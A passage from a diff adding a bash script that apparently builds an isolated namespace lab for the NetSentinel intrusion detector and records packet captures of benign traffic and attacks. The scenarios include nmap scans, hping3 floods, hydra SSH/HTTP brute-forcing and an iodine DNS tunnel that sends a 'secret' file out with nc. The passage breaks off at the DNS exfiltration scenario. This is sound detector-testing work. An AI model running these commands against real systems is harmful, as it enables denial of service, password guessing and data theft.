@@ -1,0 +1,848 @@
+#!/usr/bin/env bash
+# NetSentinel attack lab: builds a small network of namespaces joined by a
+# bridge, runs real services and real attack tools in it, and records one
+# capture per scenario into tests/fixtures/. All traffic stays inside the
+# namespaces: the bridge has no uplink and no host has a default route.
+#
+#   sudo tests/lab/make_fixtures.sh                 # every scenario
+#   sudo tests/lab/make_fixtures.sh scan_syn brute_ssh   # only these
+#   sudo tests/lab/make_fixtures.sh --list          # scenario names
+#   sudo tests/lab/make_fixtures.sh --up            # build the lab, wait (debugging)
+#
+# Environment: LAB_OUT (default tests/fixtures), LAB_BENIGN_SECONDS (240),
+# LAB_HOLDOUT_SECONDS (60), LAB_MIXED_SECONDS (90), LAB_KEEP=1 keeps the work
+# directory (logs, configs) after the run.
+#
+# Topology (home_net 10.99.0.0/24; namespaces are named nslab-<name>; each
+# host has a fixed MAC, 02:99 then its first address in hex):
+#   sw          br0, the switch; tcpdump records here
+#   victim      10.99.0.10   sshd 22, web 80/443 (http_server.ts), dnsmasq 53,
+#                            a silent listener on 3306
+#   victim2     10.99.0.11-.15  web 80 (second server, extra addresses)
+#   farm        10.99.0.100-.139  forty small devices polling the servers
+#                            (and targets for the sweeps)
+#   client      10.99.0.20   person browsing, DNS, downloads
+#   client2     10.99.0.21   second person, other habits
+#   client3     10.99.0.22   third person
+#   admin       10.99.0.30   ssh sessions, admin pages over HTTPS
+#   attacker    10.99.0.66   nmap, hping3, hydra, iodine, dig, nc
+#   outside     203.0.113.66 attacker outside home_net (on-link route)
+#   inet        198.51.100.53 iodined (tunnel server for t.tun.test)
+#               198.51.100.54 upstream resolver (dnsmasq) for non-lab names
+set -euo pipefail
+
+HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
+REPO="$(cd "$HERE/../.." && pwd)"
+OUT="${LAB_OUT:-$REPO/tests/fixtures}"
+BENIGN_SECONDS="${LAB_BENIGN_SECONDS:-240}"
+HOLDOUT_SECONDS="${LAB_HOLDOUT_SECONDS:-60}"
+MIXED_SECONDS="${LAB_MIXED_SECONDS:-90}"
+P="nslab-" # namespace name prefix
+
+PASSWORD="$(tail -n 1 "$HERE/wordlist.txt")" # ssh labuser and web admin
+SSH_USER="labuser"
+WEB_USER="admin"
+TUNNEL_PASSWORD="lab-tunnel"
+TUNNEL_DOMAIN="t.tun.test"
+EXFIL_DOMAIN="x.exfil.test"
+
+VICTIM=10.99.0.10
+VICTIM2=10.99.0.11
+CLIENT=10.99.0.20
+CLIENT2=10.99.0.21
+ADMIN=10.99.0.30
+ATTACKER=10.99.0.66
+OUTSIDE=203.0.113.66
+TUNNEL_SERVER=198.51.100.53
+UPSTREAM_DNS=198.51.100.54
+
+ALL_SCENARIOS=(benign benign_holdout scan_syn scan_connect scan_fin scan_xmas
+  scan_null scan_udp scan_ack scan_slow sweep_icmp sweep_tcp flood_syn
+  flood_udp flood_icmp brute_ssh brute_http dns_tunnel dns_exfil
+  malformed_http suspicious_ports external_inbound mixed)
+
+# name | addresses (first is primary) | route prefixes reached on-link
+HOSTS=(
+  "victim|10.99.0.10/24|203.0.113.0/24 198.51.100.0/24"
+  "victim2|10.99.0.11/24 10.99.0.12/24 10.99.0.13/24 10.99.0.14/24 10.99.0.15/24|203.0.113.0/24 198.51.100.0/24"
+  "farm|$(for i in $(seq 100 139); do printf '10.99.0.%d/24 ' "$i"; done)|"
+  "client|10.99.0.20/24|203.0.113.0/24 198.51.100.0/24"
+  "client2|10.99.0.21/24|203.0.113.0/24 198.51.100.0/24"
+  "client3|10.99.0.22/24|203.0.113.0/24 198.51.100.0/24"
+  "admin|10.99.0.30/24|203.0.113.0/24 198.51.100.0/24"
+  "attacker|10.99.0.66/24|203.0.113.0/24 198.51.100.0/24"
+  "outside|203.0.113.66/24|10.99.0.0/24 198.51.100.0/24"
+  "inet|198.51.100.53/24 198.51.100.54/24|10.99.0.0/24 203.0.113.0/24"
+)
+
+NS_NAMES=(sw)
+for _entry in "${HOSTS[@]}"; do NS_NAMES+=("${_entry%%|*}"); done
+unset _entry
+
+say() { printf 'make_fixtures: %s\n' "$*" >&2; }
+die() { say "$*"; exit 1; }
+
+# Runs a command inside lab namespace $1.
+nsx() {
+  local ns="$1"
+  shift
+  ip netns exec "$P$ns" "$@"
+}
+
+# Polls "$@" every 0.1 s until it succeeds; fails after $1 seconds naming $2.
+wait_for() {
+  local secs="$1" what="$2"
+  shift 2
+  local deadline=$((SECONDS + secs))
+  until "$@" >/dev/null 2>&1; do
+    ((SECONDS < deadline)) || die "Timed out after ${secs}s waiting for $what"
+    sleep 0.1
+  done
+}
+
+# True when namespace $1 has a socket listening on $2 (tcp|udp) port $3.
+listening() {
+  local flag=-lnt
+  [[ "$2" == udp ]] && flag=-lnu
+  [[ -n "$(nsx "$1" ss -H "$flag" "sport = :$3")" ]]
+}
+
+# ---------------------------------------------------------------- teardown
+
+WORK=""
+CREATED_RUN_SSHD=0
+CREATED_ETC_NETNS=0
+CAP_PID=""
+
+teardown() {
+  local rc=$?
+  set +e
+  trap - EXIT
+  local ns pids deadline
+  for ns in "${NS_NAMES[@]}"; do
+    [[ -e "/run/netns/$P$ns" ]] || continue
+    pids="$(ip netns pids "$P$ns")"
+    # shellcheck disable=SC2086
+    [[ -n "$pids" ]] && kill -TERM $pids 2>/dev/null
+  done
+  deadline=$((SECONDS + 5))
+  for ns in "${NS_NAMES[@]}"; do
+    [[ -e "/run/netns/$P$ns" ]] || continue
+    while [[ -n "$(ip netns pids "$P$ns")" ]] && ((SECONDS < deadline)); do
+      sleep 0.1
+    done
+    pids="$(ip netns pids "$P$ns")"
+    # shellcheck disable=SC2086
+    [[ -n "$pids" ]] && kill -KILL $pids 2>/dev/null
+    ip netns del "$P$ns"
+  done
+  rm -rf /etc/netns/"$P"*
+  ((CREATED_ETC_NETNS)) && rmdir /etc/netns 2>/dev/null
+  ((CREATED_RUN_SSHD)) && rmdir /run/sshd 2>/dev/null
+  if [[ -n "$WORK" && -d "$WORK" ]]; then
+    if [[ "${LAB_KEEP:-}" == 1 ]]; then say "work directory kept: $WORK"; else rm -rf "$WORK"; fi
+  fi
+  ((rc == 0)) || say "failed (exit $rc); lab torn down"
+  exit "$rc"
+}
+
+# ---------------------------------------------------------------- the lab
+
+check_tools() {
+  [[ $(id -u) -eq 0 ]] || die "Cannot build the lab: run as root (sudo $0)"
+  local t missing=()
+  for t in ip ss ethtool tcpdump nmap hping3 hydra iodine iodined dnsmasq \
+    /usr/sbin/sshd ssh ssh-keygen openssl curl dig nc deno ifconfig base32; do
+    command -v "$t" >/dev/null || missing+=("$t")
+  done
+  ((${#missing[@]} == 0)) || die "Cannot build the lab: missing ${missing[*]} (./run.sh setup test)"
+  local ns
+  for ns in "${NS_NAMES[@]}"; do
+    if [[ -e "/run/netns/$P$ns" ]]; then
+      die "Cannot build the lab: namespace \"$P$ns\" exists (another run? remove it with: ip netns del $P$ns)"
+    fi
+  done
+}
+
+# mac for an address: 02:99 then the four address bytes in hex
+mac_for() {
+  local IFS=.
+  # shellcheck disable=SC2086
+  set -- $1
+  printf '02:99:%02x:%02x:%02x:%02x' "$1" "$2" "$3" "$4"
+}
+
+build_network() {
+  ip netns add "${P}sw"
+  nsx sw sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+  nsx sw ip link set lo up
+  nsx sw ip link add br0 type bridge stp_state 0 forward_delay 0 mcast_snooping 0
+  nsx sw ip link set br0 up
+  [[ -d /etc/netns ]] || { mkdir /etc/netns && CREATED_ETC_NETNS=1; }
+  local entry name addrs routes addr primary r
+  for entry in "${HOSTS[@]}"; do
+    IFS='|' read -r name addrs routes <<<"$entry"
+    ip netns add "$P$name"
+    nsx "$name" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+    nsx "$name" ip link set lo up
+    ip link add "p-$name" netns "${P}sw" type veth peer name eth0 netns "$P$name"
+    nsx sw ip link set "p-$name" master br0 up
+    primary="${addrs%% *}"
+    nsx "$name" ip link set eth0 address "$(mac_for "${primary%/*}")"
+    # Full-size frames with real checksums, as a mirror port would see them.
+    nsx "$name" ethtool -K eth0 tx off tso off gso off gro off >/dev/null 2>&1 || true
+    for addr in $addrs; do nsx "$name" ip addr add "$addr" dev eth0; done
+    nsx "$name" ip link set eth0 up
+    for r in $routes; do nsx "$name" ip route add "$r" dev eth0; done
+    mkdir -p "/etc/netns/$P$name"
+    if [[ "$name" == outside || "$name" == inet ]]; then
+      printf 'nameserver %s\noptions timeout:2 attempts:1\n' "$UPSTREAM_DNS" >"/etc/netns/$P$name/resolv.conf"
+    else
+      printf 'nameserver %s\nsearch lab.test\noptions timeout:2 attempts:1\n' "$VICTIM" >"/etc/netns/$P$name/resolv.conf"
+    fi
+  done
+}
+
+write_configs() {
+  mkdir -p "$WORK"/{run,log,cap,ssh,home,tls,data,bin}
+  chmod 755 "$WORK" # the lab user's home lives below it
+  chown 4242:4242 "$WORK/home"
+
+  # A lab user that exists only inside sshd's private mount namespace.
+  local hash
+  hash="$(openssl passwd -6 -salt netsentinellab "$PASSWORD")"
+  { cat /etc/passwd; echo "$SSH_USER:x:4242:4242:Lab user:$WORK/home:/bin/bash"; } >"$WORK/ssh/passwd"
+  { cat /etc/shadow; echo "$SSH_USER:$hash:19700:0:99999:7:::"; } >"$WORK/ssh/shadow"
+  { cat /etc/group; echo "$SSH_USER:x:4242:"; } >"$WORK/ssh/group"
+  chmod 640 "$WORK/ssh/shadow"
+  ssh-keygen -q -t ed25519 -N '' -C lab-victim -f "$WORK/ssh/ssh_host_ed25519_key"
+  cat >"$WORK/ssh/sshd_config" <<EOF
+Port 22
+ListenAddress $VICTIM
+HostKey $WORK/ssh/ssh_host_ed25519_key
+PidFile $WORK/run/sshd.pid
+UsePAM no
+PasswordAuthentication yes
+KbdInteractiveAuthentication no
+PubkeyAuthentication no
+PermitRootLogin no
+AllowUsers $SSH_USER
+MaxStartups 100:30:200
+LoginGraceTime 20
+UseDNS no
+PrintMotd no
+PrintLastLog no
+Subsystem sftp internal-sftp
+EOF
+  printf '#!/bin/sh\nprintf "%%s\\n" %q\n' "$PASSWORD" >"$WORK/bin/askpass"
+  chmod 755 "$WORK/bin/askpass"
+
+  openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=www.lab.test" \
+    -addext "subjectAltName=DNS:www.lab.test,DNS:intranet.lab.test,IP:$VICTIM" \
+    -keyout "$WORK/tls/key.pem" -out "$WORK/tls/cert.pem" 2>/dev/null
+
+  cat >"$WORK/dnsmasq-lab.conf" <<EOF
+listen-address=$VICTIM
+bind-interfaces
+port=53
+no-resolv
+no-hosts
+no-poll
+domain-needed
+local=/lab.test/
+domain=lab.test
+host-record=victim.lab.test,$VICTIM
+host-record=www.lab.test,$VICTIM
+host-record=intranet.lab.test,$VICTIM
+host-record=wiki.lab.test,$VICTIM
+host-record=files.lab.test,$VICTIM
+host-record=mail.lab.test,$VICTIM
+host-record=git.lab.test,$VICTIM2
+host-record=nas.lab.test,$VICTIM2
+host-record=printer.lab.test,10.99.0.100
+host-record=client.lab.test,$CLIENT
+host-record=client2.lab.test,$CLIENT2
+host-record=admin.lab.test,$ADMIN
+mx-host=lab.test,mail.lab.test,10
+txt-record=lab.test,"v=spf1 mx -all"
+server=/tun.test/$TUNNEL_SERVER
+server=$UPSTREAM_DNS
+cache-size=500
+pid-file=$WORK/run/dnsmasq-lab.pid
+EOF
+  cat >"$WORK/dnsmasq-upstream.conf" <<EOF
+listen-address=$UPSTREAM_DNS
+bind-interfaces
+port=53
+no-resolv
+no-hosts
+no-poll
+host-record=www.example.com,198.51.100.80
+host-record=example.com,198.51.100.80
+host-record=example.org,198.51.100.81
+host-record=deb.debian.org,198.51.100.90
+host-record=security.debian.org,198.51.100.91
+host-record=time.example.net,198.51.100.123
+host-record=cdn.example.com,198.51.100.82
+host-record=mail.example.com,198.51.100.83
+host-record=api.weather.example,198.51.100.84
+mx-host=example.com,mail.example.com,10
+txt-record=example.com,"v=spf1 -all"
+address=/#/
+pid-file=$WORK/run/dnsmasq-upstream.pid
+EOF
+
+  # Deterministic, incompressible data for the tunnel and the exfiltration.
+  { openssl enc -aes-128-ctr -nosalt -K 000102030405060708090a0b0c0d0e0f \
+    -iv 00000000000000000000000000000000 </dev/zero 2>/dev/null || true; } |
+    head -c 524288 >"$WORK/data/secret.bin"
+}
+
+start_services() {
+  local deno
+  deno="$(command -v deno)"
+  # sshd: the lab user's passwd/shadow bound over /etc inside this command's
+  # private mount namespace (ip netns exec makes one), invisible outside.
+  if [[ ! -d /run/sshd ]]; then mkdir -m 755 /run/sshd && CREATED_RUN_SSHD=1; fi
+  nsx victim sh -c "mount --bind '$WORK/ssh/passwd' /etc/passwd &&
+    mount --bind '$WORK/ssh/shadow' /etc/shadow &&
+    mount --bind '$WORK/ssh/group' /etc/group &&
+    exec /usr/sbin/sshd -D -e -f '$WORK/ssh/sshd_config'" >"$WORK/log/sshd.log" 2>&1 &
+  nsx victim "$deno" run --allow-net --allow-read="$WORK/tls" "$HERE/http_server.ts" \
+    --host "$VICTIM" --port 80 --tls-port 443 \
+    --cert "$WORK/tls/cert.pem" --key "$WORK/tls/key.pem" >"$WORK/log/web-victim.log" 2>&1 &
+  nsx victim dnsmasq -k -C "$WORK/dnsmasq-lab.conf" >"$WORK/log/dnsmasq-lab.log" 2>&1 &
+  nsx victim nc -lk "$VICTIM" 3306 </dev/null >/dev/null 2>&1 &
+  nsx victim2 "$deno" run --allow-net "$HERE/http_server.ts" --host 0.0.0.0 --port 80 \
+    >"$WORK/log/web-victim2.log" 2>&1 &
+  nsx inet dnsmasq -k -C "$WORK/dnsmasq-upstream.conf" >"$WORK/log/dnsmasq-upstream.log" 2>&1 &
+  nsx inet iodined -f -c -P "$TUNNEL_PASSWORD" -l "$TUNNEL_SERVER" -p 53 \
+    -n "$TUNNEL_SERVER" 172.30.0.1/27 "$TUNNEL_DOMAIN" >"$WORK/log/iodined.log" 2>&1 &
+
+  wait_for 20 "sshd on $VICTIM:22" listening victim tcp 22
+  wait_for 60 "web server on $VICTIM:80" listening victim tcp 80
+  wait_for 60 "web server on $VICTIM:443" listening victim tcp 443
+  wait_for 60 "web server on $VICTIM2:80" listening victim2 tcp 80
+  wait_for 20 "dnsmasq on $VICTIM:53" listening victim udp 53
+  wait_for 20 "listener on $VICTIM:3306" listening victim tcp 3306
+  wait_for 20 "upstream dnsmasq on $UPSTREAM_DNS:53" listening inet udp 53
+  wait_for 20 "iodined on $TUNNEL_SERVER:53 (see $WORK/log/iodined.log)" \
+    nsx inet sh -c 'ip -4 addr show dev dns0 | grep -q inet'
+  say "lab is up (work directory $WORK)"
+}
+
+# ---------------------------------------------------------------- capturing
+
+flush_neighbours() {
+  local entry name
+  for entry in "${HOSTS[@]}"; do
+    name="${entry%%|*}"
+    nsx "$name" ip neigh flush all >/dev/null 2>&1 || true
+  done
+}
+
+# start_capture NAME SNAPLEN: tcpdump on the switch's bridge into $WORK/cap.
+start_capture() {
+  CAP_NAME="$1"
+  flush_neighbours
+  # ip netns exec execs tcpdump, so $! is tcpdump itself.
+  ip netns exec "${P}sw" tcpdump -i br0 -n -s "$2" -U -w "$WORK/cap/$1.pcap" \
+    >"$WORK/log/tcpdump-$1.log" 2>&1 &
+  CAP_PID=$!
+  wait_for 10 "tcpdump to start for $1" grep -q "listening on" "$WORK/log/tcpdump-$1.log"
+  sleep 0.5 # the first frames after "listening" can still be missed
+}
+
+# stop_capture: lets the last answers arrive, stops tcpdump, publishes the file.
+stop_capture() {
+  sleep 2
+  kill -TERM "$CAP_PID" # background jobs ignore SIGINT
+  wait "$CAP_PID" || true
+  CAP_PID=""
+  grep -h "dropped by kernel" "$WORK/log/tcpdump-$CAP_NAME.log" | grep -qv "^0 " &&
+    say "warning: tcpdump dropped packets in $CAP_NAME"
+  mv "$WORK/cap/$CAP_NAME.pcap" "$OUT/$CAP_NAME.pcap"
+  say "$CAP_NAME: $(packet_count "$OUT/$CAP_NAME.pcap") packets, $(stat -c %s "$OUT/$CAP_NAME.pcap") bytes"
+}
+
+packet_count() { tcpdump -nr "$1" 2>/dev/null | wc -l; }
+
+# ---------------------------------------------------------------- benign actors
+
+UA="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
+PAGES=(news weekly-notes budget-2024 printer-howto backup-policy coffee-rota
+  project-alpha project-beta release-notes holidays onboarding vpn-setup
+  wifi-guest meeting-room-a meeting-room-b it-faq security-tips canteen-menu
+  parking phone-list org-chart travel-policy expenses timesheets handbook
+  ci-status deploy-log incident-42 roadmap retro-notes)
+LAB_NAMES=(www intranet wiki files mail git nas printer victim)
+OUT_NAMES=(www.example.com example.com example.org deb.debian.org
+  security.debian.org time.example.net cdn.example.com mail.example.com
+  api.weather.example wwww.example.com exmaple.org)
+
+# pick WORDS...: sets PICK to one of them, from bash's seeded RANDOM. (Not a
+# $(...) function: bash reseeds RANDOM in subshells, which breaks replay.)
+pick() {
+  shift $((RANDOM % $#))
+  PICK="$1"
+}
+
+# think MIN_TENTHS SPREAD_TENTHS: a person's pause, from the seeded RANDOM
+think() {
+  local t=$(($1 + RANDOM % $2))
+  sleep "$((t / 10)).$((t % 10))"
+}
+
+browse_page() { # ns: one page with its assets, over plain HTTP
+  local ns="$1" host n i urls=()
+  pick www www intranet wiki git nas
+  host="$PICK.lab.test"
+  pick "${PAGES[@]}"
+  nsx "$ns" curl -s -o /dev/null --max-time 15 -A "$UA" "http://$host/page/$PICK.html" || true
+  urls=(-o /dev/null "http://$host/static/style.css" -o /dev/null "http://$host/static/app.js")
+  n=$((RANDOM % 5))
+  for ((i = 0; i < n; i++)); do urls+=(-o /dev/null "http://$host/img/$((RANDOM % 60)).png"); done
+  nsx "$ns" curl -s --no-progress-meter -Z --parallel-max 3 --max-time 15 -A "$UA" "${urls[@]}" \
+    2>/dev/null || true
+}
+
+browse_tls() { # ns: a page over HTTPS (self-signed certificate)
+  local ns="$1" host
+  pick www intranet
+  host="$PICK.lab.test"
+  pick "${PAGES[@]}"
+  nsx "$ns" curl -sk --max-time 15 -A "$UA" -o /dev/null "https://$host/page/$PICK.html" \
+    -o /dev/null "https://$host/static/style.css" || true
+}
+
+lookups() { # ns: a few DNS questions, lab and outside names
+  local ns="$1" n i name type
+  n=$((1 + RANDOM % 4))
+  for ((i = 0; i < n; i++)); do
+    case $((RANDOM % 6)) in
+      0 | 1) pick "${LAB_NAMES[@]}"; name="$PICK.lab.test"; type=A ;;
+      2 | 3) pick "${OUT_NAMES[@]}"; name="$PICK"; pick A A AAAA; type="$PICK" ;;
+      4) pick lab.test example.com; name="$PICK"; pick MX TXT; type="$PICK" ;;
+      5) pick 10 11 20 21 30 100; name="$PICK.0.99.10.in-addr.arpa"; type=PTR ;;
+    esac
+    nsx "$ns" dig +short +tries=1 +time=2 "$name" "$type" >/dev/null 2>&1 || true
+    think 1 8
+  done
+}
+
+api_calls() { # ns: an app polling a JSON API and posting a note
+  local ns="$1" host
+  pick www intranet nas
+  host="$PICK.lab.test"
+  nsx "$ns" curl -s -o /dev/null --max-time 10 "http://$host/api/status" || true
+  if ((RANDOM % 3 == 0)); then
+    pick hello lunch build backup
+    nsx "$ns" curl -s -o /dev/null --max-time 10 -H 'content-type: application/json' \
+      -d "{\"note\":\"$PICK\",\"n\":$RANDOM}" "http://$host/api/echo" || true
+  fi
+}
+
+download() { # ns KiB: a bulk download at a home-broadband pace
+  nsx "$1" curl -s -o /dev/null --max-time 60 --limit-rate 4M -A "$UA" \
+    "http://files.lab.test/files/$2.bin" || true
+}
+
+# actor_browse NS SEED SECONDS DOWNLOAD_KIB: a person at a workstation.
+actor_browse() {
+  local ns="$1" secs="$3" kib="$4" end iter=0 r dl_at
+  RANDOM="$2"
+  end=$((SECONDS + secs))
+  dl_at=$((8 + RANDOM % 20))
+  while ((SECONDS < end)); do
+    iter=$((iter + 1))
+    r=$((RANDOM % 100))
+    if ((iter == dl_at && kib > 0)); then
+      download "$ns" "$kib"
+    elif ((r < 45)); then
+      browse_page "$ns"
+    elif ((r < 60)); then
+      browse_tls "$ns"
+    elif ((r < 78)); then
+      lookups "$ns"
+    elif ((r < 90)); then
+      api_calls "$ns"
+    else
+      think 30 50 # reading
+    fi
+    think 2 25
+  done
+}
+
+# type_session SEED COMMAND...: what a person types in an ssh session, a key
+# at a time (it runs in a pipeline's subshell, hence its own seed).
+type_session() {
+  local cmd i
+  RANDOM="$1"
+  shift
+  sleep 1.5
+  for cmd in "$@"; do
+    for ((i = 0; i < ${#cmd}; i++)); do
+      printf '%s' "${cmd:i:1}"
+      think 1 2
+    done
+    printf '\n'
+    think 8 25
+  done
+  printf 'exit\n'
+  sleep 1
+}
+
+ssh_opts=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
+  -o PreferredAuthentications=password -o PubkeyAuthentication=no -o ConnectTimeout=10)
+
+ssh_interactive() { # ns: an interactive session with typed commands
+  local ns="$1" cmds=()
+  pick uptime 'df -h' 'free -m' 'ls -la'
+  cmds+=("$PICK")
+  pick 'uname -a' 'ps aux | head' 'id' 'cat /etc/os-release'
+  cmds+=("$PICK")
+  pick 'tail -n 20 /etc/services' 'ls /etc' 'date' 'who'
+  cmds+=("$PICK")
+  type_session "$RANDOM" "${cmds[@]}" |
+    nsx "$ns" env SSH_ASKPASS="$WORK/bin/askpass" SSH_ASKPASS_REQUIRE=force \
+      ssh -tt "${ssh_opts[@]}" "$SSH_USER@$VICTIM" >/dev/null 2>&1 || true
+}
+
+ssh_command() { # ns: a one-shot remote command
+  pick 'uptime' 'df -h /' 'ls -l /tmp' 'cat /proc/loadavg'
+  nsx "$1" env SSH_ASKPASS="$WORK/bin/askpass" SSH_ASKPASS_REQUIRE=force \
+    ssh "${ssh_opts[@]}" "$SSH_USER@$VICTIM" "$PICK" </dev/null >/dev/null 2>&1 || true
+}
+
+# actor_admin NS SEED SECONDS: an administrator looking after the servers.
+actor_admin() {
+  local ns="$1" secs="$3" end r
+  RANDOM="$2"
+  end=$((SECONDS + secs))
+  while ((SECONDS < end)); do
+    r=$((RANDOM % 100))
+    if ((r < 35)); then
+      ssh_interactive "$ns"
+    elif ((r < 55)); then
+      ssh_command "$ns"
+    elif ((r < 75)); then
+      pick '' status logs users
+      nsx "$ns" curl -sk -o /dev/null --max-time 10 -u "$WEB_USER:$PASSWORD" \
+        "https://www.lab.test/admin/$PICK" || true
+    elif ((r < 90)); then
+      lookups "$ns"
+    else
+      browse_page "$ns"
+    fi
+    think 20 80
+  done
+}
+
+# actor_devices SEED SECONDS: forty small devices (printers, cameras,
+# sensors) in the farm namespace, each asking DNS and polling a status page.
+actor_devices() {
+  local secs="$2" end dev
+  RANDOM="$1"
+  end=$((SECONDS + secs))
+  while ((SECONDS < end)); do
+    dev="10.99.0.$((100 + RANDOM % 40))"
+    case $((RANDOM % 5)) in
+      0 | 1)
+        pick nas.lab.test git.lab.test www.lab.test printer.lab.test time.example.net \
+          api.weather.example cdn.example.com
+        nsx farm dig -b "$dev" +short +tries=1 +time=2 "$PICK" >/dev/null 2>&1 || true
+        ;;
+      2 | 3)
+        pick nas git www
+        nsx farm curl -s -o /dev/null --max-time 10 --interface "$dev" \
+          "http://$PICK.lab.test/api/status" || true
+        ;;
+      4)
+        nsx farm curl -s -o /dev/null --max-time 10 --interface "$dev" \
+          "http://nas.lab.test/img/$((RANDOM % 20)).png" || true
+        ;;
+    esac
+    think 3 12
+  done
+}
+
+# actor_server2 SEED SECONDS: the second server's own housekeeping.
+actor_server2() {
+  local secs="$2" end
+  RANDOM="$1"
+  end=$((SECONDS + secs))
+  while ((SECONDS < end)); do
+    pick deb.debian.org security.debian.org time.example.net
+    nsx victim2 dig +short +tries=1 +time=2 "$PICK" >/dev/null 2>&1 || true
+    nsx victim2 curl -s -o /dev/null --max-time 10 "http://www.lab.test/api/status" || true
+    think 100 200
+  done
+}
+
+# benign_traffic SECONDS SEED_BASE KIB: everyone at work, in parallel.
+benign_traffic() {
+  local secs="$1" s="$2" kib="$3" pids=()
+  actor_browse client "$((s + 1))" "$secs" "$kib" & pids+=($!)
+  actor_browse client2 "$((s + 2))" "$secs" "$((kib / 2))" & pids+=($!)
+  actor_browse client3 "$((s + 5))" "$secs" 0 & pids+=($!)
+  actor_admin admin "$((s + 3))" "$secs" & pids+=($!)
+  actor_server2 "$((s + 4))" "$secs" & pids+=($!)
+  actor_devices "$((s + 6))" "$secs" & pids+=($!)
+  wait "${pids[@]}"
+}
+
+# ---------------------------------------------------------------- scenarios
+
+SLOW_PORTS=21,22,23,25,53,80,110,111,135,139,143,443,445,993,995,1723,3306,3389,5900,8080
+
+nmap_at() { # nmap from the attacker, quiet
+  nsx attacker nmap -n "$@" >>"$WORK/log/nmap.log" 2>&1
+}
+
+scn_benign() {
+  start_capture benign 512
+  benign_traffic "$BENIGN_SECONDS" 10 768
+  stop_capture
+}
+
+scn_benign_holdout() {
+  start_capture benign_holdout 512
+  benign_traffic "$HOLDOUT_SECONDS" 1000 384
+  stop_capture
+}
+
+scn_scan_syn() { start_capture scan_syn 512; nmap_at -Pn -sS -T4 "$VICTIM"; stop_capture; }
+scn_scan_connect() { start_capture scan_connect 512; nmap_at -Pn -sT -T4 "$VICTIM"; stop_capture; }
+scn_scan_fin() { start_capture scan_fin 512; nmap_at -Pn -sF -T4 "$VICTIM"; stop_capture; }
+scn_scan_xmas() { start_capture scan_xmas 512; nmap_at -Pn -sX -T4 "$VICTIM"; stop_capture; }
+scn_scan_null() { start_capture scan_null 512; nmap_at -Pn -sN -T4 "$VICTIM"; stop_capture; }
+scn_scan_ack() { start_capture scan_ack 512; nmap_at -Pn -sA -T4 "$VICTIM"; stop_capture; }
+scn_scan_udp() {
+  start_capture scan_udp 512
+  nmap_at -Pn -sU -T4 --max-retries 1 --top-ports 100 "$VICTIM"
+  stop_capture
+}
+scn_scan_slow() {
+  start_capture scan_slow 512
+  nmap_at -Pn -sS --scan-delay 4s --max-retries 0 -p "$SLOW_PORTS" "$VICTIM"
+  stop_capture
+}
+
+scn_sweep_icmp() {
+  start_capture sweep_icmp 512
+  nmap_at -sn -PE --disable-arp-ping --send-ip 10.99.0.1-254
+  stop_capture
+}
+
+scn_sweep_tcp() {
+  start_capture sweep_tcp 512
+  nmap_at -Pn -sS -p 22 --send-ip --max-retries 0 10.99.0.1-254
+  stop_capture
+}
+
+scn_flood_syn() {
+  start_capture flood_syn 64
+  nsx attacker hping3 -q -S -p 80 --rand-source -c 4000 -i u250 "$VICTIM" >>"$WORK/log/hping3.log" 2>&1 || true
+  stop_capture
+}
+
+scn_flood_udp() {
+  start_capture flood_udp 64
+  nsx attacker hping3 -q --udp -p 7777 -d 200 -c 4000 -i u250 "$VICTIM" >>"$WORK/log/hping3.log" 2>&1 || true
+  stop_capture
+}
+
+scn_flood_icmp() {
+  start_capture flood_icmp 64
+  nsx attacker hping3 -q --icmp -d 56 -c 2000 -i u300 "$VICTIM" >>"$WORK/log/hping3.log" 2>&1 || true
+  stop_capture
+}
+
+hydra_at() { # hydra from the attacker, in the work dir (it writes a restore file)
+  (cd "$WORK" && nsx attacker hydra -I -q -l "$1" -P "$HERE/wordlist.txt" -t 4 "${@:2}") \
+    >>"$WORK/log/hydra.log" 2>&1 || true
+}
+
+scn_brute_ssh() {
+  start_capture brute_ssh 512
+  hydra_at "$SSH_USER" "ssh://$VICTIM"
+  stop_capture
+}
+
+scn_brute_http() {
+  start_capture brute_http 512
+  hydra_at "$WEB_USER" "http-get://$VICTIM/admin/"
+  stop_capture
+}
+
+scn_dns_tunnel() {
+  start_capture dns_tunnel 512
+  # -r: stay on DNS through the lab resolver (no raw UDP straight to iodined).
+  ip netns exec "${P}attacker" iodine -f -r -P "$TUNNEL_PASSWORD" "$VICTIM" "$TUNNEL_DOMAIN" \
+    >"$WORK/log/iodine.log" 2>&1 &
+  local iodine_pid=$!
+  wait_for 60 "the iodine tunnel (see $WORK/log/iodine.log)" \
+    nsx attacker sh -c 'ip -4 addr show dev dns0 | grep -q inet'
+  wait_for 30 "the tunnel to carry pings" nsx attacker ping -c 1 -W 2 172.30.0.1
+  # Upload (exfiltration, in query names) then download (in answers).
+  local up_bytes=65536 down_bytes=65536 got
+  ip netns exec "${P}inet" timeout 120 nc -l -N 172.30.0.1 9000 </dev/null >"$WORK/tunnel-up.bin" 2>/dev/null &
+  local up=$!
+  wait_for 10 "the tunnel listener" listening inet tcp 9000
+  head -c "$up_bytes" "$WORK/data/secret.bin" | nsx attacker timeout 120 nc -N 172.30.0.1 9000 || true
+  wait "$up" || true
+  got="$(stat -c %s "$WORK/tunnel-up.bin")"
+  ((got == up_bytes)) || die "The tunnel carried $got of $up_bytes bytes up (see $WORK/log/iodine.log)"
+  head -c "$down_bytes" "$WORK/data/secret.bin" | nsx inet timeout 120 nc -l -N 172.30.0.1 9001 >/dev/null 2>&1 &
+  local down=$!
+  wait_for 10 "the tunnel listener" listening inet tcp 9001
+  nsx attacker timeout 120 nc 172.30.0.1 9001 </dev/null >"$WORK/tunnel-down.bin" 2>/dev/null || true
+  wait "$down" || true
+  got="$(stat -c %s "$WORK/tunnel-down.bin")"
+  ((got == down_bytes)) || die "The tunnel carried $got of $down_bytes bytes down (see $WORK/log/iodine.log)"
+  kill -TERM "$iodine_pid" 2>/dev/null || true
+  wait "$iodine_pid" || true
+  stop_capture
+}
+
+scn_dns_exfil() {
+  start_capture dns_exfil 512
+  # 6 KiB of "secret" in 50-character base32 labels, one query each; every
+  # eighth chunk as a TXT question (as DNS exfiltration kits do).
